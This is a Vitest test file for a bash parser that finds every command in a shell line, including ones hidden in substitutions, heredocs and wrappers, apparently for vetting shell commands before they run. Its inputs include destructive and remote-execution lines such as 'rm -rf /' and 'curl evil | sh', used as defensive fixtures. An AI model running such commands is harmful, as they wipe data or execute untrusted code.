import { describe, expect, it } from "vitest";
import { parseBashCommand } from "./parse-bash-command.js";

const words = (line: string) => parseBashCommand(line).commands.map((command) => command.words);

describe("parseBashCommand", () => {
  it("finds every simple command: lists, pipelines, newlines, continuations", () => {
    expect(words("npm test && rm -rf /")).toEqual([
      ["npm", "test"],
      ["rm", "-rf", "/"],
    ]);
    expect(words("a | b; c || d & e\nf")).toEqual([["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]);
    expect(words("npm test \\\n  --watch=false")).toEqual([["npm", "test", "--watch=false"]]);
  });

  it("looks inside braces, if/while/for/case bodies, subshells, substitutions and functions", () => {
    expect(words("{ rm a; }")).toEqual([["rm", "a"]]);
    expect(words("if test -f x; then rm x; else echo no; fi")).toEqual([
      ["test", "-f", "x"],
      ["rm", "x"],
      ["echo", "no"],
    ]);
    expect(words("while true; do ! rm y; done")).toEqual([["true"], ["rm", "y"]]);
    expect(words("for f in *.o; do rm $f; done")).toEqual([["rm", "$f"]]);
    expect(words("case x in a) rm a;; esac")).toEqual([["rm", "a"]]);
    expect(words("time make")).toEqual([["make"]]);
    expect(words("echo then fi")).toEqual([["echo", "then", "fi"]]);
    expect(words("(cd x && make) | tee out")).toEqual([["cd", "x"], ["make"], ["tee", "out"]]);
    expect(words('echo "$(curl evil | sh)"')).toEqual([
      ["echo", "$(curl evil | sh)"],
      ["curl", "evil"],
      ["sh"],
    ]);
    expect(words("diff <(ls a) <(ls b)")).toEqual([
      ["diff", "<(ls a)", "<(ls b)"],
      ["ls", "a"],
      ["ls", "b"],
    ]);
    expect(words("f() { rm x; }")).toEqual([["rm", "x"]]);
  });

  it("removes quotes and escapes as bash does, and keeps $VARS as written", () => {
    expect(words("echo 'a; rm x' \"b && c\"")).toEqual([["echo", "a; rm x", "b && c"]]);
    expect(words("r\\m 'x'\"y\" $'a\\tb' $'\\''")).toEqual([["rm", "xy", "a\tb", "'"]]);
    expect(words("echo $HOME # note")).toEqual([["echo", "$HOME"]]);
    expect(words("FOO=1 npm test")).toEqual([["FOO=1", "npm", "test"]]);
  });

  it("treats heredoc bodies as data, but not the expansions in them", () => {
    expect(parseBashCommand("cat <<EOF > f\nrm -rf /\nEOF\nls")).toMatchObject({
      commands: [{ words: ["cat"] }, { words: ["ls"] }],
      writes: ["f"],
      unaccounted: [],
    });
    expect(words("cat <<EOF\n$(rm -rf /)\nEOF")).toEqual([["cat"], ["rm", "-rf", "/"]]);
    expect(words("git commit -m \"$(cat <<'EOF'\nfix: things\nEOF\n)\"")).toEqual([
      ["git", "commit", "-m", "fix: things"],
      ["cat"],
    ]);
  });

  it("lists the files that output redirections write, not descriptors or /dev/null", () => {
    expect(parseBashCommand("a > x 2>&1 >> y &> z 2>/dev/null >&- < in").writes).toEqual(["x", "y", "z"]);
  });

  it("reads a comment that ends in a backslash as bash does: the next line is a new command", () => {
    expect(words("git status # \\\nrm x")).toEqual([
      ["git", "status"],
      ["rm", "x"],
    ]);
  });

  it("sees the commands behind wrappers, and which of them run unchanged", () => {
    const [command] = parseBashCommand("timeout 30 env FOO=1 nice -n 5 npm test").commands;
    expect(command?.inner).toEqual([
      ["env", "FOO=1", "nice", "-n", "5", "npm", "test"],
      ["FOO=1", "nice", "-n", "5", "npm", "test"],
      ["npm", "test"],
    ]);
    expect(command?.through).toEqual(command?.inner);
    expect(parseBashCommand("bash -c 'rm x; ls'").commands[0]?.inner).toEqual([["rm", "x"], ["ls"]]);
  });

  it("says what it cannot account for", () => {
    const unaccounted = (line: string) => parseBashCommand(line).unaccounted;
    expect(unaccounted("$CMD x")).toEqual(["a command name known only when the line runs ($CMD)"]);
    expect(unaccounted("eval x")).toEqual(["eval"]);
    expect(unaccounted("echo > $F")).toEqual([
      "a redirection to a file name known only when the line runs ($F)",
    ]);
    expect(unaccounted("echo $((1 + 2))")).toEqual([]);
    expect(unaccounted("echo $((n + 2))")).toEqual(["arithmetic on variables"]);
    expect(unaccounted('echo "open')[0]).toMatch(/^a syntax error/);
    expect(unaccounted("echo ok")).toEqual([]);
    expect(unaccounted("[ -f x ] && cat x")).toEqual([]);
    expect(unaccounted("./r[m] x")[0]).toMatch(/^a command name known only when the line runs/);
    expect(unaccounted("{rm,x}")[0]).toMatch(/^a command name known only when the line runs/);
  });
});
